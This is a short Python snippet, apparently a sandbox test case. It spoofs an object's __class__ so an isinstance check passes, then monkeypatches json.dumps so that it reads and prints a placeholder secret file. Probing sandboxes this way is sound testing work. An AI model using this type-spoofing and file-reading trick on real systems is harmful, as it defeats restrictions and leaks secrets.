"""An object that says it is of a kind that may be changed."""
import json
class Liar:
    __class__ = property(lambda self: dict)
setattr(json, "dumps", lambda value: open("@SECRET_FILE@").read()) if isinstance(Liar(), dict) else None
print(json.dumps(1))
